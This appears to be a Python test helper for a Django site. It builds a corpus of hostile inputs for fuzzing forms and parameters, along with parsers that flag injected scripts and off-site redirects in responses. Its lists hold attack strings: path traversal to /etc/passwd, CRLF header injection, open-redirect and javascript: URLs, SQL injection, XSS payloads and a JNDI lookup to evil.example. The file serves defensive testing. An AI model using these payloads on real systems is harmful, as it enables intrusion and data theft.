"""Hostile input for every form and parameter, by class, and what a page that
answers it must not hold.

Each input is a `Hostile` of one class. Its value is text, or bytes that go
into a request as they are: invalid UTF-8 and lone surrogates cannot be typed
into a str the test client would encode, so they travel as raw bytes in a
urlencoded body or a query string. Markup and script come from the sanitiser's
corpus (`hostile.xss_cases`), one case in every few so that each technique of
it is here.
"""

import ast
import functools
import importlib
import re
from dataclasses import dataclass
from html.parser import HTMLParser
from pathlib import Path
from urllib.parse import quote, quote_from_bytes, urlsplit

from django import forms
from django.conf import settings
from django.http import QueryDict

from tests.factories.hostile import TEMPLATES, xss_cases


@dataclass(frozen=True)
class Hostile:
    kind: str
    value: str | bytes

    def encoded(self) -> str:
        """The value percent-encoded for a query string or a urlencoded body."""
        if isinstance(self.value, bytes):
            return quote_from_bytes(self.value, safe="")
        return quote(self.value.encode("utf-8", "surrogatepass"), safe="")


# The largest body Django reads (DATA_UPLOAD_MAX_MEMORY_SIZE) is 2.5 MB.
SEVERAL_MEGABYTES = 3 * 1024 * 1024

NUL = [
    "\x00",
    "Käse\x00",
    "\x00Käse",
    "Kä\x00se vom Hof",
    "\x00" * 64,
    "a\x00<script>alert(1)</script>",
    "%00",
    "\\0",
    "\\x00",
    "&#0;",
]
CONTROLS = [
    "\x07\x08\x0b\x0c",
    "\x1b[31mrot\x1b[0m",
    "\x7f\x80\x85\x9f",
    "Zeile\u2028Trenner\u2029Absatz",
    "\ufffe\uffff",
    "\ufffd",
    "\U0010ffff",
    "\t\t\t",
]
INVALID_UTF8 = [
    b"\xff",
    b"\xfe\xff",
    b"K\xe4se",
    b"\xc3\x28",
    b"\xa0\xa1",
    b"\xe2\x28\xa1",
    b"\xe2\x82\x28",
    b"\xf0\x28\x8c\xbc",
    b"\xf0\x90\x28\xbc",
    b"\xc0\xaf",
    b"\xe0\x80\xaf",
    b"\xc0\xbcscript\xc0\xbealert(1)",
    b"\xf8\x88\x80\x80\x80",
    b"\xfc\x84\x80\x80\x80\x80",
    b"Frische Milch \xc3",
]
LONE_SURROGATES = [
    "\ud800",
    "\udfff",
    "Kä\ud83dse",
    "\udc80\udc80",
    "x\udbffy",
]
BIDI = [
    "\u202e",
    "Rechnung\u202efdp.exe",
    "\u202dLTR\u202c",
    "\u2066isoliert\u2069",
    "\u2067abc\u2069",
    "\u2068erst\u2069",
    "\u200fRTL-Zeichen",
    "\u061carabisch",
    "\u202a\u202b\u202c\u202d\u202e",
    "Käse\u202e <script>alert(1)</script>",
]
DISGUISED_LETTERS = [
    "Ka\u200bse",
    "\u200c\u200d\u2060\ufeff",
    "\ufeffKäse",
    "Kаse",  # a Cyrillic а
    "Тheke Team",  # a Cyrillic Т
    "ＫＡＳＥ",
    "ꓚheke",
    "ᴋäse",
    "K\u0308ase",
    "Z\u0334\u0321\u031b\u033ca\u0336l\u0337g\u0337o\u0336",
    "🧀" * 40,
    "👩\u200d👩\u200d👧\u200d👦",
    "\u3000\u00a0\u2007",
    "ﬁle",
]
NUMBERS = [
    str(2**63),
    str(2**63 - 1),
    str(2**64),
    str(-(2**63) - 1),
    "9" * 400,
    "-1",
    "0",
    "-0",
    "+1",
    "1e309",
    "-1e309",
    "1e3",
    "0x10",
    "010",
    "1_000",
    "1.0",
    "NaN",
    "inf",
    "١٢",
    "１２",
    "²",
    " 1",
    "1 ",
]
PATHS = [
    "../../etc/passwd",
    "..%2f..%2fetc%2fpasswd",
    "%2e%2e%2f%2e%2e%2f",
    "%252e%252e%252f",
    "..\\..\\windows\\win.ini",
    "....//....//etc/passwd",
    "..%c0%af..%c0%afetc",
    "/etc/passwd",
    "file:///etc/passwd",
    "C:\\boot.ini",
    "\\\\evil.example\\share",
    "media/../../theke/settings/base.py",
]
LINE_BREAKS = [
    "Käse\r\nSet-Cookie: theke=evil",
    "Käse\nLocation: https://evil.example/",
    "Käse\rBcc: someone@evil.example",
    "Betreff\r\nBcc: someone@evil.example\r\n\r\nText",
    "%0d%0aSet-Cookie:%20theke=evil",
    "\r\n\r\n<script>alert(1)</script>",
    "Käse\u0085Set-Cookie: theke=evil",
    "\r" * 50,
    "\n" * 50,
]
# Each must leave a `next` or other address to go to on this site.
REDIRECTS = [
    "//evil.example",
    "///evil.example",
    "////evil.example/",
    "/\\evil.example",
    "\\\\evil.example",
    "\\/evil.example",
    "/\\/evil.example",
    "https:evil.example",
    "https:/evil.example",
    "https://evil.example",
    "http://evil.example/",
    "HTTPS://EVIL.EXAMPLE",
    "\thttps://evil.example",
    "\t//evil.example",
    " //evil.example",
    "\x00//evil.example",
    "/\t/evil.example",
    "/%09/evil.example",
    "/%2f%2fevil.example",
    "/%5cevil.example",
    "https://testserver@evil.example",
    "https://testserver.evil.example/",
    "https://evil.example#@testserver",
    "https://evil.example\\@testserver",
    "//evil%2eexample",
    "//evil。example",
    "http://[::ffff:7f00:1]/",
    "http://[evil.example/",
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
]
FORMATS = [
    "%s%s%s%n",
    "%(password)s",
    "{0.__class__}",
    "{}",
    "' OR '1'='1",
    '"; DROP TABLE community_topic; --',
    "${jndi:ldap://evil.example/a}",
    "]]>",
    "\\",
    "'",
    '"',
    "`",
    "%",
    "_",
    "*",
    '{"a": 1}',
    "null",
    "[]",
]
EMPTY = ["", " ", "\t\n", "\u00a0", "\u3000", "\u200b"]

# Markup: every sixth case of the sanitiser's corpus, and every template syntax.
MARKUP_STEP = 6


def markup() -> list[str]:
    """Script and markup of every class the sanitiser's corpus knows, within the
    length a topic holds (its longer cases are the oversize class here)."""
    cases = [text for __, text, __ in xss_cases()[::MARKUP_STEP] if len(text) <= 5000]
    return [*cases, *TEMPLATES]


@functools.cache
def corpus() -> tuple[Hostile, ...]:
    """Every input but the oversize ones, which depend on the field."""
    classes = {
        "nul": NUL,
        "control": CONTROLS,
        "invalid-utf8": INVALID_UTF8,
        "surrogate": LONE_SURROGATES,
        "bidi": BIDI,
        "disguise": DISGUISED_LETTERS,
        "number": NUMBERS,
        "path": PATHS,
        "line-break": LINE_BREAKS,
        "redirect": REDIRECTS,
        "format": FORMATS,
        "empty": EMPTY,
        "markup": markup(),
    }
    return tuple(
        Hostile(kind, value) for kind, values in classes.items() for value in values
    )


def oversize(max_length: int) -> list[Hostile]:
    """Just past a field's limit, in one-byte and in multi-byte letters, and a
    body of several megabytes."""
    return [
        Hostile("oversize", "k" * (max_length + 1)),
        Hostile("oversize", "ä" * (max_length + 1)),
        Hostile("oversize", "Käse " * (SEVERAL_MEGABYTES // 5)),
    ]


def sample(inputs: list[Hostile], per_class: int) -> list[Hostile]:
    """The first `per_class` inputs of every class, spread over the class."""
    by_class: dict[str, list[Hostile]] = {}
    for item in inputs:
        by_class.setdefault(item.kind, []).append(item)
    chosen = []
    for items in by_class.values():
        step = max(1, len(items) // per_class)
        chosen.extend(items[::step][:per_class])
    return chosen


def urlencoded(data: dict, field: str, hostile: Hostile) -> bytes:
    """A urlencoded body of `data` with `field` set to the hostile value."""
    pairs = [
        f"{quote(str(name))}={quote(str(value))}"
        for name, values in data.items()
        for value in (values if isinstance(values, list) else [values])
        if name != field
    ]
    pairs.append(f"{quote(field)}={hostile.encoded()}")
    return "&".join(pairs).encode("ascii")


def as_read(body: bytes, field: str) -> str:
    """What Django reads from `body` for `field` (invalid bytes replaced)."""
    return QueryDict(body).get(field, "")


# --- what a page must not hold --------------------------------------------------

URL_ATTRIBUTES = frozenset(
    {
        "href",
        "src",
        "action",
        "formaction",
        "xlink:href",
        "data",
        "poster",
        "background",
        "srcset",
    }
)
DANGEROUS_SCHEME = re.compile(r"^\s*(javascript|data|vbscript|livescript):", re.I)
# Data, not code, in a script element.
DATA_SCRIPTS = frozenset({"application/ld+json", "application/json"})
# What the corpus's active content carries: a page that holds one of these in
# an inline script got it from the input.
MARKERS = ("alert(", "alert&#40;", "msgbox(", "evil.example", "constructor(")
ACTIVE_ELEMENTS = frozenset({"object", "embed", "base", "applet", "frame", "portal"})


def same_origin_path(address: str, host="testserver") -> bool:
    """Whether a script's address is a file of this site's own."""
    parts = urlsplit(address)
    return (
        parts.scheme in {"", "http", "https"}
        and parts.hostname in {None, host}
        and parts.path.startswith("/")
        and "\\" not in address
    )


class ActiveContent(HTMLParser):
    """Whatever in a page would run: scripts not ours, event handlers,
    addresses with a scripting scheme, frames and objects, a refresh.

    Our scripts are files of this site (the public site allows no inline
    code) or JSON data; the admin's inline scripts are Wagtail's, so there an
    inline script counts only if it holds what the input carries.
    """

    def __init__(self, admin=False, frame_sources=()):
        super().__init__(convert_charrefs=True)
        self.admin = admin
        self.frame_sources = tuple(frame_sources)
        self.found: list[str] = []
        self._script: str | None = None
        self._kind = ""
        self._has_source = False

    def handle_starttag(self, tag, attrs):
        attributes = dict(attrs)
        for name, value in attrs:
            if (
                name.startswith("on")
                or name in URL_ATTRIBUTES
                and value
                and DANGEROUS_SCHEME.match(value)
            ):
                self.found.append(f"<{tag} {name}={value!r}>")
            elif name == "srcdoc":
                self.found.append(f"<{tag} srcdoc>")
        if tag in ACTIVE_ELEMENTS:
            self.found.append(f"<{tag}>")
        elif tag == "iframe" and not (attributes.get("src") or "").startswith(
            self.frame_sources or ("\0",)
        ):
            self.found.append(f"<iframe src={attributes.get('src')!r}>")
        elif tag == "meta" and (attributes.get("http-equiv") or "").lower() in {
            "refresh",
            "set-cookie",
        }:
            self.found.append(f"<meta http-equiv={attributes['http-equiv']!r}>")
        elif tag == "script":
            self._script = ""
            source = attributes.get("src")
            if source is not None and not same_origin_path(source):
                self.found.append(f"<script src={source!r}>")
            self._kind = (attributes.get("type") or "").lower()
            self._has_source = source is not None

    def handle_data(self, data):
        if self._script is not None:
            self._script += data

    def handle_endtag(self, tag):
        if tag != "script" or self._script is None:
            return
        text, self._script = self._script, None
        if self._has_source or not text.strip() or self._kind in DATA_SCRIPTS:
            return
        if not self.admin or any(marker in text for marker in MARKERS):
            self.found.append(f"<script>{text[:80]!r}")


def active_content(html: str, admin=False, frame_sources=()) -> list[str]:
    """What would run in `html`, described; empty if nothing."""
    parser = ActiveContent(admin=admin, frame_sources=frame_sources)
    parser.feed(html)
    parser.close()
    return parser.found


class FieldValues(HTMLParser):
    """The value every text field of a page shows, by the field's name."""

    SHOWN_TYPES = frozenset({"text", "email", "search", "url", "tel", ""})

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.values: dict[str, list[str]] = {}
        self._textarea: str | None = None
        self._text = ""

    def handle_starttag(self, tag, attrs):
        attributes = dict(attrs)
        name = attributes.get("name")
        if (
            tag == "input"
            and name
            and (attributes.get("type") or "") in (self.SHOWN_TYPES)
        ):
            self.values.setdefault(name, []).append(attributes.get("value") or "")
        elif tag == "textarea" and name:
            self._textarea, self._text = name, ""

    def handle_data(self, data):
        if self._textarea is not None:
            self._text += data

    def handle_endtag(self, tag):
        if tag == "textarea" and self._textarea is not None:
            # HTML drops the one line break right after <textarea>.
            self.values.setdefault(self._textarea, []).append(
                self._text.removeprefix("\n")
            )
            self._textarea = None


def shown_values(html: str) -> dict[str, list[str]]:
    parser = FieldValues()
    parser.feed(html)
    parser.close()
    return parser.values


def same_text(shown: str, sent: str) -> bool:
    """Whether a field shows what was sent, as a browser would send it back:
    line breaks as one kind, NUL as HTML parsers read it."""

    def fold(text):
        return text.replace("\r\n", "\n").replace("\r", "\n")

    return fold(shown) == fold(sent)


ERROR_CLASSES = re.compile(
    r'class="[^"]*\b(form-errors|form-field__errors|errorlist|error-page__text)\b'
    r'|role="alert"'
)


def has_error_message(html: str) -> bool:
    """Whether the page says what was wrong, in a place meant for it."""
    return bool(ERROR_CLASSES.search(html))


def leaves_site(location: str, host="testserver") -> bool:
    """Whether a redirect's address leads off this site or to a script."""
    cleaned = location.strip()
    if cleaned.startswith(("//", "/\\", "\\")) or DANGEROUS_SCHEME.match(cleaned):
        return True
    try:
        parts = urlsplit(cleaned)
    except ValueError:
        return True
    if parts.scheme and parts.scheme not in {"http", "https"}:
        return True
    # "https:evil.example" leads to evil.example from a page served over http.
    return bool(parts.scheme or parts.netloc) and parts.hostname != host


# --- what the code reads ----------------------------------------------------------

OUR_APPS = ("home", "blog", "shop_link", "community")


def _read_name(node, module):
    """The parameter name a `request.GET` read names, or None if computed."""
    if isinstance(node, ast.Constant) and isinstance(node.value, str):
        return node.value
    if isinstance(node, ast.Name):
        value = getattr(module, node.id, None)
        return value if isinstance(value, str) else None
    return None


def _is_query(node, kind):
    return isinstance(node, ast.Attribute) and node.attr == kind


def parameters_read(kind: str) -> set[tuple[str | None, str]]:
    """(parameter, where) for every parameter of `kind` ("GET" or "POST") our
    apps read by name, also through a form bound to it, and (None, where) for
    each read whose name is computed."""
    found = set()
    for app in OUR_APPS:
        for path in sorted(Path(settings.BASE_DIR, app).rglob("*.py")):
            if "migrations" in path.parts:
                continue
            name = ".".join(path.relative_to(settings.BASE_DIR).with_suffix("").parts)
            module = importlib.import_module(name.removesuffix(".__init__"))
            tree = ast.parse(path.read_text())
            for function in ast.walk(tree):
                if not isinstance(function, ast.FunctionDef | ast.AsyncFunctionDef):
                    continue
                where = f"{module.__name__}.{function.name}"
                for node in ast.walk(function):
                    found.update(_reads(node, module, where, kind))
    return found


def _reads(node, module, where, kind):
    if (
        isinstance(node, ast.Call)
        and isinstance(node.func, ast.Attribute)
        and node.func.attr in {"get", "getlist"}
        and _is_query(node.func.value, kind)
        and node.args
    ):
        yield _read_name(node.args[0], module), where
    elif isinstance(node, ast.Subscript) and _is_query(node.value, kind):
        yield _read_name(node.slice, module), where
    elif (
        isinstance(node, ast.Compare)
        and isinstance(node.ops[0], ast.In)
        and _is_query(node.comparators[0], kind)
    ):
        yield _read_name(node.left, module), where
    elif (
        isinstance(node, ast.Call)
        and isinstance(node.func, ast.Name)
        and node.args
        and _is_query(_unwrap(node.args[0]), kind)
    ):
        form = getattr(module, node.func.id, None)
        if isinstance(form, type) and issubclass(form, forms.BaseForm):
            for field in form.base_fields:
                yield field, where


def _unwrap(node):
    """`request.GET or None` is the GET it starts with."""
    if isinstance(node, ast.BoolOp):
        return node.values[0]
    return node
